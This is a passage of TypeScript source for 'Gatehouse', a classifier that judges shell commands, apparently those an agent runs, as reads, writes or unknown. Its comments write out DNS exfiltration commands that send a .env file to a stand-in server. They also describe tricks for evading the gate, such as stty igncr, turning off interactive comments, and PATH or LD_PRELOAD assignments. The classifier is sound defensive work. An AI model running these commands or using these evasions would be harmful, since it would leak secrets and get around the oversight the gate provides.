    alsoOption: (w) => /^\+[A-Za-z]+$/.test(w),
  });
  if (!POSIX_SHELLS.has(name)) return verdict(name, U, `${name} is not a shell Gatehouse can parse`);
  if (o.dynamic) return verdict(`${name}`, U, 'the shell arguments are computed at run time');
  if (hasAny(o, 'rcfile', 'init-file')) return verdict(name, U, 'the shell reads a startup file');
  if (o.flags.has('c')) {
    const script = o.operands[0];
    if (script === undefined) return verdict(`${name} -c`, U, 'sh -c without a command string');
    if (script.dynamic) return verdict(`${name} -c`, U, 'the command string is computed at run time');
    ctx.nestedLine(script, `${name} -c`);
    return null;
  }
  if (o.operands.length > 0 && !o.flags.has('s')) {
    return verdict(`${name} script`, U, 'runs a script file whose contents Gatehouse cannot see');
  }
  const from: Record<StdinSource, string> = {
    inherited: 'reads commands from standard input, which Gatehouse does not see as commands',
    pipe: 'a script piped into a shell is not judged',
    heredoc: 'a here-document run by a shell is not judged',
    herestring: 'a here-string run by a shell is not judged',
    file: 'a script redirected into a shell is not judged',
  };
  return verdict(name, U, from[ctx.stdin]);
};

const interpreter: Rule = (args, name) => {
  const o = scanOptions(args);
  if (args.length === 1 && (hasAny(o, 'version', 'V', 'v') || args[0]!.value === '-version'))
    return verdict(`${name} --version`, R);
  return verdict(name, U, `${name} runs a program Gatehouse cannot judge`);
};

const trap: Rule = (args, name, ctx) => {
  const o = scanOptions(args, { stopAtOperand: true });
  if (hasAny(o, 'l', 'p') || o.operands.length <= 1) return verdict(name, R);
  const action = o.operands[0]!;
  if (action.dynamic) return verdict(name, U, 'the trap action is computed at run time');
  if (action.value !== '' && action.value !== '-') ctx.nestedLine(action, 'trap');
  return verdict(name, R);
};

// ---------------------------------------------------------------------------------------------------
// The table

/**
 * How a program's rule takes a word whose value is known only at run time (`$x`, `$(…)`, a glob,
 * the arguments xargs appends). By default such a word may be any of the program's options, so the
 * command is also `unknown`, whatever the rule said: a rule that forgets them (`git log $(printf
 * -- --output=F)`) fails closed. A program opts out only by saying why:
 * - `harmless`: none of its options writes a file, runs a program or changes anything (checked
 *   against its manual), so whatever the word is, it reads;
 * - `judged`: its rule reads such words itself (scanOptions' `dynamic`, operands after `--`, a
 *   computed word made `unknown` or worse).
 * A rule that hands its words to another command's (a wrapper: `null`) has them judged there.
 */
type RuntimeWords = 'harmless' | 'judged';

interface Entry {
  readonly rule: Rule;
  readonly runtime?: RuntimeWords;
}

const RULES = new Map<string, Entry>();
const add = (names: string, rule: Rule, runtime?: RuntimeWords): void => {
  const entry: Entry = runtime === undefined ? { rule } : { rule, runtime };
  for (const n of names.split(/\s+/)) if (n !== '') RULES.set(n, entry);
};

/**
 * The words bash passes, brace expansion done (`-{delete,true}` is `-delete -true`); a word whose
 * braces cannot be expanded from the text (`{-o,$x}`) is a word made at run time, maybe several.
 */
export function expandBraces(args: readonly WordValue[]): WordValue[] {
  const out: WordValue[] = [];
  for (const w of args) {
    if (!(w.expands || w.dynamic) || !w.text.includes('{')) {
      out.push(w);
      continue;
    }
    const words = braceExpand(w);
    if (words === undefined) out.push({ ...w, value: w.text, dynamic: true, splits: true });
    else out.push(...words);
  }
  return out;
}

/** Runs an entry's rule on the words bash passes, and fails closed on run-time words (RuntimeWords). */
function judged(entry: Entry): Rule {
  return (args, name, ctx) => {
    const words = expandBraces(args);
    if (entry.runtime !== undefined) {
      const v = entry.rule(words, name, ctx);
      // A rule that judged a run-time word `unknown` without saying why: say which word.
      const runtime = words.find((w) => w.dynamic || w.expands);
      if (v === null || v.notes !== undefined || !v.categories.includes('unknown') || runtime === undefined)
        return v;
      return {
        ...v,
        notes: [
          `${name} is given a word made at run time (${runtime.text.slice(0, 60)}), which may be any of its options`,
        ],
      };
    }
    // The words a wrapper hands on are judged as the command they are; its own are judged here.
    const handed = new Set<WordValue>();
    const inner: RuleContext = {
      ...ctx,
      nested: (w, via, extra, chdir) => {
        for (const x of w) handed.add(x);
        ctx.nested(w, via, extra, chdir);
      },
      nestedLine: (line, via, extra) => {
        handed.add(line);
        ctx.nestedLine(line, via, extra);
      },
    };
    const v = entry.rule(words, name, inner);
    if (v?.categories.includes('unknown') === true) return v;
    const runtime = words.find((w) => (w.dynamic || w.expands) && !handed.has(w));
    if (runtime === undefined) return v;
    const note = `${name} is given a word made at run time (${runtime.text.slice(0, 60)}), which may be any of its options, and some of them write files or run programs`;
    if (v === null) return verdict(name, U, note);
    return { kind: v.kind, categories: [...v.categories, 'unknown'], notes: [...(v.notes ?? []), note] };
  };
}

// Reads: none of these programs' options writes a file, runs a program or changes anything (their
// manuals and `--help`, Debian 12), so whatever their words are, even made at run time, they read.
// A program with such an option has a rule of its own below, which names its options.
add(
  'ls dir vdir cat tac nl head tail grep egrep fgrep zgrep zegrep zfgrep bzgrep xzgrep wc cut paste join comm tr fold fmt column expand unexpand rev diff cmp ' +
    'md5sum sha1sum sha224sum sha256sum sha384sum sha512sum b2sum cksum sum base32 base64 basenc od hexdump strings stat readlink realpath basename dirname pwd ' +
    'echo true false : [[ yes seq sleep cal uptime uname whoami id groups who w users last lastb ps pgrep pstree top htop free vmstat iostat mpstat ' +
    'nproc lscpu lsmem lsblk lspci lsusb lsmod lsof lsns lslocks lsipc df du findmnt printenv locale which whereis type help whatis apropos locate ' +
    'netstat jq zcat bzcat xzcat gzcat numfmt factor expr bc ' +
    'cd pushd popd dirs exit return shift fg bg disown times caller logout suspend unalias ulimit tty tput clear ' +
    'diff-so-fancy colordiff namei getconf arch hostid logname iotop nstat lsattr getfacl getcap ' +
    'tsort pr look fc-list dpkg-query',
  read,
  'harmless',
);
// `umask MASK` sets the mode of every file the shell and the programs it starts make later, on this
// line and, in an interactive shell, on every later one, whose writes are decided without it: a mask
// that leaves others' write bit (0002) open makes them writable by every account on the host. Such a
// mask, one given symbolically (`u=rwx,g=rwx,o=rwx`) or one made at run time is a change, not a read
// (docs/security.md class 381). Printing the mask (`umask`, `-p`, `-S`) and a closed one are reads.
add(
  'umask',
  (args, name) => {
    const o = scanOptions(args);
    const mask = o.operands[0];
    if (mask === undefined) return verdict(name, R);
    if (mask.dynamic || mask.expands || o.dynamic)
      return verdict(name, [...W, ...U], 'umask is given a mask made at run time');
    if (/^[0-7]{1,4}$/.test(mask.value) && (parseInt(mask.value, 8) & 0o002) !== 0) return verdict(name, R);
    return verdict(
      `${name} ${mask.value.slice(0, 40)}`,
      W,
      'umask leaves files made later writable by other accounts, or sets the mask symbolically',
    );
  },
  'judged',
);
// Reads with an option that writes a file, runs a program or changes something: each rule names the
// program's options (OptionTable), and one it does not name is unknown.
const DIFF_OPTIONS =
  'i E Z b W B I a w l s t d H ignore-case ignore-tab-expansion ignore-trailing-space ignore-space-change ' +
  'ignore-all-space ignore-blank-lines ignore-matching-lines strip-trailing-cr text width left-column ' +
  'suppress-common-lines expand-tabs tabsize minimal speed-large-files help v version';
add(
  'sdiff',
  (args, name, ctx) => {
    const o = scanOptions(args, {
      shortValued: 'oIw',
      longValued: ['output', 'ignore-matching-lines', 'width', 'tabsize', 'diff-program'],
    });
    // -o merges interactively: it writes FILE and reads commands from standard input (`e` runs an editor).
    return fromTable(
      o,
      name,
      name,
      {
        reads: DIFF_OPTIONS,
        writes: 'o output',
        does: {
          o: [U, 'sdiff -o reads commands from standard input, one of which runs an editor'],
          output: [U, 'sdiff -o reads commands from standard input, one of which runs an editor'],
          'diff-program': [U, `${name} runs the program its --diff-program names`],
        },
      },
      ctx,
    );
  },
  'judged',
);
add(
  'diff3',
  (args, name, ctx) => {
    const o = scanOptions(args, { shortValued: 'L', longValued: ['label', 'diff-program'] });
    return fromTable(
      o,
      name,
      name,
      {
        reads:
          'A e E 3 x X i m a T L show-all ed show-overlap easy-only overlap-only merge text strip-trailing-cr initial-tab label help v version',
        does: { 'diff-program': [U, `${name} runs the program its --diff-program names`] },
      },
      ctx,
    );
  },
  'judged',
);
add(
  'file',
  (args, name, ctx) => {
    const o = scanOptions(args, {
      shortValued: 'mefFP',
      longValued: ['magic-file', 'exclude', 'exclude-quiet', 'files-from', 'separator', 'parameter'],
    });
    const v = fromTable(
      o,
      name,
      name,
      {
        reads:
          'v m z Z b c e f F i k l L h n N 0 p P r s S d help version magic-file uncompress uncompress-noreport brief ' +
          'checking-printout exclude exclude-quiet files-from separator mime apple extension mime-type mime-encoding ' +
          'keep-going list dereference no-dereference no-buffer no-pad print0 preserve-date parameter raw special-files no-sandbox debug',
        does: { C: [[], ''], compile: [[], ''] },
      },
      ctx,
    );
    if (!hasAny(o, 'C', 'compile')) return v;
    // -C compiles each magic file -m names into NAME.mgc in the working directory (magic.mgc without -m).
    const lists = [...(o.values.get('m') ?? []), ...(o.values.get('magic-file') ?? [])];
    const outputs: WordValue[] =
      lists.length === 0 ? [{ value: 'magic.mgc', dynamic: false, expands: false, text: 'magic.mgc' }] : [];
    for (const l of lists) {
      if (l.dynamic) outputs.push(l);
      else
        for (const m of l.value.split(':'))
          if (m !== '') {
            const out = `${m.replace(/\/+$/, '').split('/').pop() ?? m}.mgc`;
            outputs.push({ value: out, dynamic: false, expands: false, text: out });
          }
    }
    return rekind(`${name} -C`, v, W, writeTargets(outputs, ctx));
  },
  'judged',
);
add(
  'blkid',
  (args, name, ctx) => {
    const o = scanOptions(args, {
      shortValued: 'cosStLUHOun',
      longValued: [
        'cache-file',
        'output',
        'match-tag',
        'match-token',
        'label',
        'uuid',
        'hint',
        'size',
        'offset',
        'usages',
        'match-types',
      ],
    });
    return fromTable(
      o,
      name,
      name,
      {
        reads:
          'd o k s t l L U p i H S O u n D h V no-encoding output list-filesystems match-tag match-token list-one label uuid probe info hint size offset usages match-types no-part-details help version',
        // The cache (as root: /run/blkid/blkid.tab, or the file -c names) is written as blkid reads.
        writes: 'c cache-file',
        does: {
          g: [W, 'blkid -g rewrites its cache'],
          'garbage-collect': [W, 'blkid -g rewrites its cache'],
        },
      },
      ctx,
    );
  },
  'judged',
);
add(
  'lastlog',
  (args, name, ctx) => {
    const o = scanOptions(args, { shortValued: 'btuR', longValued: ['before', 'time', 'user', 'root'] });
    return fromTable(
      o,
      name,
      name,
      {
        reads: 'b h R t u before help root time user',
        does: {
          C: [W, 'lastlog -C clears a login record'],
          clear: [W, 'lastlog -C clears a login record'],
          S: [W, 'lastlog -S sets a login record'],
          set: [W, 'lastlog -S sets a login record'],
        },
      },
      ctx,
    );
  },
  'judged',
);
add(
  'atop',
  (args, name, ctx) => {
    // atop -w FILE writes its raw samples to FILE; its other options choose what is shown.
    const o = scanOptions(args, { shortValued: 'wrSbe' });
    return withCats(name, R, writeTargets(o.values.get('w') ?? [], ctx), o.dynamic ? U : []);
  },
  'judged',
);
add(
  'pidstat',
  (args, name) => {
    // pidstat -e PROGRAM ARGS runs PROGRAM and watches it.
    const o = scanOptions(args, { shortValued: 'CGpTe', longValued: ['dec', 'human'] });
    if (hasAny(o, 'e')) return verdict(name, U, 'pidstat -e runs the program it names');
    return verdict(name, o.dynamic ? U : R);
  },
  'judged',
);
add(
  'getent',
  (args, name, ctx) => {
    const o = scanOptions(args, { shortValued: 's', longValued: ['service'] });
    return fromTable(
      o,
      name,
      name,
      {
        reads: 'A i ? V no-addrconfig no-idn help usage version',
        // -s names the NSS module to load, a shared object: one the caller planted runs as code.
        does: {
          s: [U, 'getent -s loads the NSS module it names'],
          service: [U, 'getent -s loads the NSS module it names'],
        },
      },
      ctx,
    );
  },
  'judged',
);
add(
  'zstdcat',
  (args, name, ctx) => {
    const o = scanOptions(args, { shortValued: 'oDTM', longValued: ['output', 'threads', 'memory'] });
    return fromTable(
      o,
      name,
      name,
      {
        reads:
          'c d f k q v h H V t l D T M stdout decompress force keep quiet verbose help version test list threads memory no-progress sparse no-sparse',
        writes: 'o output',
      },
      ctx,
    );
  },
  'judged',
);
add(
  'lz4cat',
  (args, name, ctx) => {
    const o = scanOptions(args, {});
    return fromTable(
      o,
      name,
      name,
      {
        reads: 'c d f k q v h H V t m stdout decompress force keep quiet verbose help version test multiple',
        does: { rm: [D, 'lz4cat --rm removes the files it reads'] },
      },
      ctx,
    );
  },
  'judged',
);
// `reset` and `tset` set the terminal's usual settings again; `-e`, `-k`, `-i` (erase, kill and
// interrupt keys), `-m` (a mapping) or a terminal type (whose backspace key becomes erase) set keys
// readline takes from the terminal, as `stty erase x` does (class 403). Alone, or quiet, they are reads.
add(
  'reset tset',
  (args, name) => {
    for (const a of args) {
      if (a.dynamic || a.expands) return verdict(name, U, `${name} is given a word made at run time`);
      if (!['-q', '-Q', '-r', '-s', '-w', '-c', '-I', '-V', '-'].includes(a.value))
        return verdict(
          name,
          U,
          `${name} ${a.value.slice(0, 40)} changes how the terminal reads typed keys: later lines may run otherwise than they are decided`,
        );
    }
    return verdict(name, R);
  },
  'judged',
);
/** stty settings that leave typed keys read as the SSH shell gate reads them (echo, size, speed). */
const STTY_KEEPS_READING = new Set(
  [
    'echo',
    'echoe',
    'crterase',
    'echok',
    'echoctl',
    'ctlecho',
    'echoke',
    'crtkill',
    'echoprt',
    'prterase',
    'echonl',
    'tostop',
    'onlcr',
    'opost',
    'ixon',
    'ixoff',
    'ixany',
    'imaxbel',
    'iutf8',
  ]
    .flatMap((w) => [w, `-${w}`])
    .concat('sane'),
);
/** stty settings that take a number (`rows 40`): their value is not a setting of its own. */
const STTY_VALUED = new Set(['rows', 'cols', 'columns', 'ispeed', 'ospeed', 'min', 'time']);
add(
  'stty',
  (args, name) => {
    // stty's own options are -a, -g and -F DEVICE; its other words (`-echo`, `sane`, `erase ^H`)
    // are settings: of this session's terminal, or with -F of another device (a serial line, another
    // user's terminal). The SSH shell gate reads typed keys as readline does on a terminal with the
    // usual settings (CR ends a line, Ctrl-U/W/V/C are what they are, letters are text); a setting
    // that makes the terminal read the same bytes otherwise (`igncr` drops every CR, so a line decided
    // at CR stays in bash and runs with the next; `lnext q`, `werase x`, `eol`, `-icanon`, `raw`, a
    // saved `-g` string) is `unknown` (class 403). Echo, size and speed settings keep that reading.
    let device = false;
    let settings = false;
    let rereads: string | undefined;
    for (let i = 0; i < args.length; i++) {
      const a = args[i]!;
      if (a.dynamic || a.expands) return verdict(name, U, 'stty is given a word made at run time');
      const v = a.value;
      const long = /^--([^=]+)/.exec(v)?.[1];
      if (v === '-F' || (long !== undefined && 'file'.startsWith(long) && !v.includes('='))) {
        device = true;
        i++;
      } else if (v.startsWith('-F') || (long !== undefined && 'file'.startsWith(long))) device = true;
      else if (!['-a', '--all', '-g', '--save', 'size', 'speed', '--help', '--version'].includes(v)) {
        settings = true;
        const valued = STTY_VALUED.has(v);
        if (valued) i++;
        if (!valued && !STTY_KEEPS_READING.has(v)) rereads ??= v;
      }
    }
    if (settings && device)
      return verdict(name, W, 'stty -F changes the settings of another terminal or a serial line');
    if (rereads !== undefined)
      return verdict(
        name,
        U,
        `stty ${rereads.slice(0, 40)} changes how the terminal reads typed keys: later lines may run otherwise than they are decided`,
      );
    return verdict(name, R);
  },
  'judged',
);
add(
  'iwconfig',
  (args, name) =>
    args.length <= 1 && args.every((a) => !a.dynamic && !a.expands)
      ? verdict(name, R)
      : verdict(name, P, 'changes wireless network configuration'),
  'judged',
);
add(
  'loginctl',
  subcommandRule({
    spec: {
      shortValued: 'HMpPsno',
      longValued: ['host', 'machine', 'property', 'kill-whom', 'signal', 'lines', 'output'],
    },
    read: [
      'list-sessions',
      'session-status',
      'show-session',
      'list-users',
      'user-status',
      'show-user',
      'list-seats',
      'seat-status',
      'show-seat',
      'help',
    ],
    write: ['activate', 'lock-session', 'unlock-session', 'lock-sessions', 'unlock-sessions'],
    destructive: ['terminate-session', 'kill-session', 'terminate-user', 'kill-user', 'terminate-seat'],
    // Lingering keeps a user's services running after logout; attach gives a seat a device.
    privilege: ['enable-linger', 'disable-linger', 'attach', 'flush-devices'],
    remote: ['H', 'host'],
    none: R,
  }),
);
add(
  'systemd-analyze',
  subcommandRule({
    spec: {
      shortValued: 'HM',
      longValued: [
        'host',
        'machine',
        'root',
        'image',
        'security-policy',
        'json',
        'threshold',
        'offline',
        'fuzz',
        'iterations',
        'base-time',
        'profile',
        'from-pattern',
        'to-pattern',
        'recursive-errors',
      ],
    },
    read: [
      'time',
      'blame',
      'critical-chain',
      'plot',
      'dot',
      'dump',
      'cat-config',
      'unit-files',
      'unit-paths',
      'exit-status',
      'capability',
      'syscall-filter',
      'filesystems',
      'condition',
      'compare-versions',
      'verify',
      'calendar',
      'timestamp',
      'timespan',
      'security',
      'inspect-elf',
      'fdstore',
      'image-policy',
      'pcrs',
      'architectures',
      'smbios11',
      'malloc',
      'get-log-level',
      'get-log-target',
      'help',
    ],
    // With a value these set the service manager's logging or watchdogs; without one they show it.
    privilege: ['set-log-level', 'set-log-target', 'log-level', 'log-target', 'service-watchdogs'],
    readAlone: ['log-level', 'log-target', 'service-watchdogs'],
    remote: ['H', 'host'],
    unknownOptions: ['generators'],
    none: R,
  }),
);
/** apt-cache: reads the package cache; its commands and options, by its manual. */
add(
  'apt-cache',
  (args, name, ctx) => {
    const o = scanOptions(args, {
      shortValued: 'psco',
      longValued: ['pkg-cache', 'src-cache', 'config-file', 'option', 'with-source'],
    });
    const sub = o.operands[0];
    const v = fromTable(
      o,
      name,
      `${name}${sub === undefined || sub.dynamic ? '' : ` ${sub.value}`}`,
      {
        reads:
          'q i f a g n h v quiet important full all-versions generate no-generate names-only all-names recurse installed with-source help version ' +
          'no-pre-depends no-depends no-recommends no-suggests no-conflicts no-breaks no-replaces no-enhances implicit',
        writes: 'p s pkg-cache src-cache',
        does: {
          c: [U, 'apt-cache reads another configuration file'],
          'config-file': [U, 'apt-cache reads another configuration file'],
          o: [U, 'apt-cache is given a configuration option'],
          option: [U, 'apt-cache is given a configuration option'],
        },
      },
      ctx,
    );
    const reads = [
      'showsrc',
      'search',
      'depends',
      'rdepends',
      'show',
      'pkgnames',
      'policy',
      'stats',
      'dump',
      'dumpavail',
      'unmet',
      'showpkg',
      'dotty',
      'xvcg',
      'madison',
    ];
    if (sub === undefined || sub.dynamic || reads.includes(sub.value)) return v;
    if (sub.value === 'gencache') return rekind(v.kind, v, W);
    return verdict(v.kind, U, `${v.kind} is not an apt-cache command Gatehouse knows`);
  },
  'judged',
);
add(
  'apt-file',
  (args, name) => {
    const o = scanOptions(args, {
      shortValued: 'aDfo',
      longValued: ['architecture', 'option', 'filter-suites', 'filter-origins', 'index-names'],
    });
    const sub = o.operands[0];
    if (o.dynamic || sub === undefined || sub.dynamic)
      return verdict(name, U, 'the apt-file command is computed at run time');
    const kind = `${name} ${sub.value}`;
    if (hasAny(o, 'o', 'option')) return verdict(kind, U, 'apt-file is given a configuration option');
    if (sub.value === 'update') return verdict(kind, W);
    if (['search', 'find', 'list', 'show', 'list-indices'].includes(sub.value)) return verdict(kind, R);
    return verdict(kind, U, `${kind} is not an apt-file command Gatehouse knows`);
  },
  'judged',
);
// Reads, unless told to run a program, write a file or change something.
add('man', (args, name) => {
  const o = scanOptions(args, {
    shortValued: 'PCHMmpSsLRTEer',
    longValued: [
      'pager',
      'config-file',
      'prompt',
      'manpath',
      'systems',
      'sections',
      'extension',
      'encoding',
      'recode',
      'locale',
      'preprocessor',
    ],
  });
  // A pager, browser, config file (whose DEFINEs name programs) or X viewer is a program man runs.
  if (hasAny(o, 'P', 'pager', 'H', 'html', 'C', 'config-file', 'X', 'gxditview'))
    return verdict(name, U, `${name} is told which program to run`);
  // -u rebuilds man's index caches; -c (catman) writes formatted pages.
  if (hasAny(o, 'u', 'update', 'c', 'catman')) return verdict(name, W, `${name} -u/-c writes its caches`);
  return verdict(name, R);
});
add(
  'info',
  (args, name, ctx) => {
    const o = scanOptions(args, {
      shortValued: 'dfnovk',
      longValued: [
        'output',
        'file',
        'node',
        'directory',
        'dribble',
        'restore',
        'init-file',
        'variable',
        'index-search',
        'apropos',
      ],
    });
    // -o writes the nodes to a file; --dribble records the keys typed to one.
    return fromTable(
      o,
      name,
      name,
      {
        reads:
          'a d f n k v w R O x all apropos directory file index-search init-file location node raw-escapes no-raw-escapes ' +
          'restore show-options usage subnodes variable version vi-keys strict-node-location debug help',
        writes: 'o output dribble',
      },
      ctx,
    );
  },
  'judged',
);
add('tree', (args, name, ctx) => {
  const o = scanOptions(args, {
    shortValued: 'LPIoHT',
    longValued: ['filelimit', 'timefmt', 'sort', 'charset', 'fromfile'],
  });
  // -R writes 00Tree.html into every directory it walks.
  if (hasAny(o, 'R')) return verdict(name, W, `${name} -R writes a file into each directory`);
  const out = o.values.get('o') ?? [];
  if (out.length === 0) return verdict(name, R);
  const cats = writeTargets(out, ctx);
  return verdict(name, cats.length > 0 ? cats : R);
});
add('sar', (args, name, ctx) => {
  const o = scanOptions(args, { shortValued: 'ofeisPImnqB', longValued: ['dev', 'fs', 'iface', 'sadc'] });
  if (hasAny(o, 'sadc')) return verdict(name, U, `${name} --sadc runs a program`);
  const out = o.values.get('o') ?? [];
  if (!hasAny(o, 'o')) return verdict(name, R);
  // `sar -o` with no file writes the daily data file.
  const cats = out.length > 0 ? writeTargets(out, ctx) : ['write' as const];
  return verdict(name, cats.length > 0 ? cats : R);
});
// dc runs the rest of a line after `!` as a shell command, from its arguments or standard input.
add('dc', unknownCommand('dc runs shell commands written after "!" in its script'));
add('ss', (args, name, ctx) => {
  const o = scanOptions(args, {
    shortValued: 'fAFDN',
    longValued: ['family', 'query', 'socket', 'filter', 'diag', 'net'],
  });
  if (hasAny(o, 'K', 'kill')) return verdict(name, D);
  // -D FILE dumps raw socket data to FILE.
  return withCats(
    name,
    R,
    writeTargets([...(o.values.get('D') ?? []), ...(o.values.get('diag') ?? [])], ctx),
  );
});
/** ethtool options that only show; every other option changes the NIC (-s, -K, -E, -f…). */
const ETHTOOL_QUERIES = new Set(
  (
    'i driver S statistics k show-features g show-ring a show-pause c show-coalesce T ' +
    'show-time-stamping show-eee m module-info P show-permaddr l show-channels h help version'
  ).split(' '),
);
add('ethtool', (args, name) => {
  const o = scanOptions(args);
  return verdict(name, [...o.flags].every((f) => ETHTOOL_QUERIES.has(f)) ? R : P);
});
/**
 * DNS and ICMP lookups: a name or payload computed on the host leaves it (DNS exfiltration). So do
 * names a lookup reads from a file or from its input (`dig -f .env @ns.example`, `nslookup - ns.example
 * < .env`, `mtr -F .env`): each line is sent as a query, to a server the line names or, through a
 * search domain (`dig +search +domain=x.example`), to one whose zone the agent holds (class 236).
 * `nameFiles`: options whose value is a file of names; `readsInput`: whether the operands leave the
 * program reading names from its standard input.
 */
const lookup =
  (
    spec: OptionSpec,
    serverOptions: readonly string[] = [],
    nameFiles: readonly string[] = [],
    readsInput?: (operands: readonly WordValue[]) => boolean,
  ): Rule =>
  (args, name, ctx) => {
    const o = scanOptions(args, spec);
    const words = [...o.operands, ...[...o.values.values()].flat()];
    if (o.dynamic || words.some((w) => w.dynamic || w.expands))
      return verdict(name, X, `${name} sends a name or data computed on the host off it`);
    if (nameFiles.length > 0 && hasAny(o, ...nameFiles))
      return verdict(name, X, `${name} sends each line of a file it is given as a query`);
    if (readsInput?.(o.operands) === true && ctx.stdin !== 'inherited')
      return verdict(
        name,
        X,
        `${name} sends each line of its input, which the line gives it from the host, as a query`,
      );
    for (const opt of serverOptions)
      for (const w of o.values.get(opt) ?? [])
        if (!isLoopbackHost(w.value)) return verdict(name, X, `${name} talks to a server it is told`);
    return verdict(name, R);
  };
add('dig', lookup({ shortValued: 'bcfkpqtxy' }, [], ['f']), 'judged');
add('host', lookup({ shortValued: 'cNRtWm' }), 'judged');
// nslookup with no name, or `-` for one, reads its names (and `server` commands) from its input.
add(
  'nslookup',
  lookup({}, [], [], (operands) => operands.length === 0 || operands[0]?.value === '-'),
  'judged',
);
add('ping ping6', lookup({ shortValued: 'ciIlmMpQsStTwWF' }), 'judged');
add('traceroute traceroute6 tracepath', lookup({ shortValued: 'fgimMNpqstwzlBcoPLQaIY' }), 'judged');
add(
  'mtr',
  lookup({ shortValued: 'FfgimMNpqstwzlBcoPLQaIY', longValued: ['filename'] }, [], ['F', 'filename']),
  'judged',
);
// whois sends its query to the server it is told (-h HOST -p PORT): any host, any port.
add('whois', lookup({ shortValued: 'hpiTsgtvqV', longValued: ['host', 'port'] }, ['h', 'host']), 'judged');
/**
 * Builtins that assign the variables they are named (`printf -v NAME`, `read NAME`, `mapfile NAME`,
 * `getopts OPTS NAME`, `wait -p NAME`, `let NAME=…`): naming one that changes what runs (PATH,
 * LD_PRELOAD, IFS…) is such an assignment, `unknown` as `PATH=… cmd` and `export PATH=…` are; so is a
 * computed name. A name with a subscript (`a[i]`) is evaluated as arithmetic; `let` evaluates all its
 * words; every one but `let` assigns a value made at run time (input, a format, a process id).
 */
const assigning =
  (
    spec: OptionSpec,
    names: (o: ScannedOptions) => readonly WordValue[],
    options: { readonly arithmetic?: boolean; readonly assigns?: (o: ScannedOptions) => boolean } = {},
  ): Rule =>
  (args, name, ctx) => {
    const o = scanOptions(args, spec);
    if (options.arithmetic === true || o.dynamic) ctx.evaluates();
    if (o.dynamic || (options.assigns ?? (() => true))(o)) ctx.computes();
    for (const w of names(o)) {
      if (w.dynamic || w.value.includes('[')) ctx.evaluates(w.dynamic ? undefined : w.value);
      const variable = w.value.split(/[[+=]/, 1)[0]!;
      const risk = w.dynamic ? undefined : variableRisk(variable, undefined, 'shell');
      if (w.dynamic || risk !== undefined || LOCALE_CHARSET_VARIABLES.has(variable))
        return verdict(
          name,
          U,
          `${name} assigns ${w.dynamic ? 'a computed variable' : variable}${risk === undefined ? '' : `: ${risk}`}`,
        );
    }
    return verdict(name, R);
  };
add(
  'printf',
  assigning({ shortValued: 'v' }, (o) => o.values.get('v') ?? [], { assigns: (o) => o.flags.has('v') }),
  'judged',
);
add(
  'read',
  assigning({ shortValued: 'adinNptu' }, (o) => [...(o.values.get('a') ?? []), ...o.operands]),
  'judged',
);
add(
  'let',
  assigning({}, (o) => o.operands, { arithmetic: true, assigns: () => false }),
  'judged',
);
add(
  'getopts',
  assigning({}, (o) => o.operands.slice(1, 2)),
  'judged',
);
add(
  'mapfile readarray',
  (args, name, ctx) => {
    const o = scanOptions(args, { shortValued: 'dnOsuCc' });
    if (hasAny(o, 'C')) return verdict(name, U, `${name} -C runs a callback`);
    return assigning({ shortValued: 'dnOsuCc' }, (x) => x.operands.slice(-1))(args, name, ctx);
  },
  'judged',
);
add(
  'wait',
  assigning({ shortValued: 'p' }, (o) => o.values.get('p') ?? [], { assigns: (o) => o.flags.has('p') }),
  'judged',
);
/** test/[ operators that are followed by an operand and take no left-hand one (`test -f x`). */
const TEST_BINARY = new Set([
  '=',
  '==',
  '!=',
  '<',
  '>',
  '-eq',
  '-ne',
  '-lt',
  '-le',
  '-gt',
  '-ge',
  '-nt',
  '-ot',
  '-ef',
]);
// `test -v NAME` evaluates NAME's subscript (`a[$(cmd)]` runs cmd); a word computed at run time in an
// operator's place may be -v. Everything else test does only looks.
add(
  'test [',
  (args, name, ctx) => {
    const words =
      name === '[' && args.at(-1)?.value === ']' && !args.at(-1)!.dynamic ? args.slice(0, -1) : args;
    for (let i = 0; i < words.length; i++) {
      const w = words[i]!;
      if (!w.dynamic && (w.value === '-v' || w.value === '-R')) {
        const operand = words[i + 1];
        ctx.evaluates(operand !== undefined && !operand.dynamic ? operand.value : undefined);
      }
      if (!w.dynamic) continue;
      const prev = words[i - 1];
      const next = words[i + 1];
      const operatorPlace =
        (prev === undefined || (!prev.dynamic && ['!', '(', '-a', '-o'].includes(prev.value))) &&
        next !== undefined &&
        (next.dynamic || !TEST_BINARY.has(next.value));
      if (operatorPlace) ctx.evaluates();
    }
    return verdict(name, R);
  },
  'judged',
);
/**
 * `set` flags that only change error handling, tracing, globbing and job control. Any other — -k
 * (assignments anywhere), -H with history, -a (every assignment exported: `set -a; TAR_OPTIONS=…;
 * tar tf a`) — changes how later words are read or what they give programs.
 */
const SET_SAFE_LETTERS = /^[euxvfnCbmhBTEPpt]*$/;
/**
 * `set -o`/`+o` names that change no reading of later lines. The rest change how bash reads or runs
 * them, or what the gate can see of them: vi (readline's vi mode, where typed letters are commands —
 * `v` edits the line in an editor and runs it, with no Enter typed), keyword, allexport, history and
 * histexpand, posix, and interactive-comments turned off (a `#` that the classifier reads as a
 * comment's start is then a word, and what follows it runs: class 199).
 */
const SET_SAFE_NAMES = new Set([
  'errexit',
  'nounset',
  'xtrace',
  'verbose',
  'pipefail',
  'noglob',
  'noclobber',
  'noexec',
  'notify',
  'monitor',
  'hashall',
  'braceexpand',
  'errtrace',
  'functrace',
  'physical',
  'onecmd',
  'ignoreeof',
  'nolog',
  'privileged',
]);
/** Names that are safe one way only: turned on (`-o`), or turned off (`+o`). */
const SET_SAFE_ON = new Set(['emacs', 'interactive-comments']);
const SET_SAFE_OFF = new Set(['vi', 'keyword', 'allexport', 'history', 'histexpand', 'posix']);
add(
  'set',
  (args, name) => {
    for (let i = 0; i < args.length; i++) {
      const w = args[i]!;
      if (w.dynamic || w.expands) return verdict(name, U, 'set with an option computed at run time');
      const v = w.value;
      if (v === '--' || v === '-' || !/^[-+]/.test(v)) break;
      const on = v.startsWith('-');
      // `-o name`, and a group of flags ending in o (`set -eo vi`): bash takes the next word as its name.
      if (/^[-+][A-Za-z]*o$/.test(v)) {
        if (!SET_SAFE_LETTERS.test(v.slice(1, -1)))
          return verdict(name, U, `set ${v} changes how later words are read or what they give programs`);
        const opt = args[i + 1];
        if (opt === undefined) break;
        const safe =
          !opt.dynamic &&
          !opt.expands &&
          (SET_SAFE_NAMES.has(opt.value) || (on ? SET_SAFE_ON : SET_SAFE_OFF).has(opt.value));
        if (!safe)
          return verdict(name, U, `set ${v} ${opt.text} changes how later words or lines are read or run`);
        i++;
        continue;
      }
      if (!SET_SAFE_LETTERS.test(v.slice(1)))
        return verdict(
          name,
          U,
